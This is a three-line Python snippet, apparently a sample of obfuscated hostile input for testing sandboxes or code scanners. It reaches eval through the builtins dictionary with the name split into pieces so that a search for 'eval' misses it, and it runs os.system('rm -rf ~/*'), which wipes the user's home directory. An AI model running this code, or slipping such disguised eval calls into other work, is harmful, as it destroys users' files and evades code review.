# tricky: eval out of a dictionary
f = __builtins__.__dict__["ev" + "al"]
f("__import__('os').system('rm -rf ~/*')")
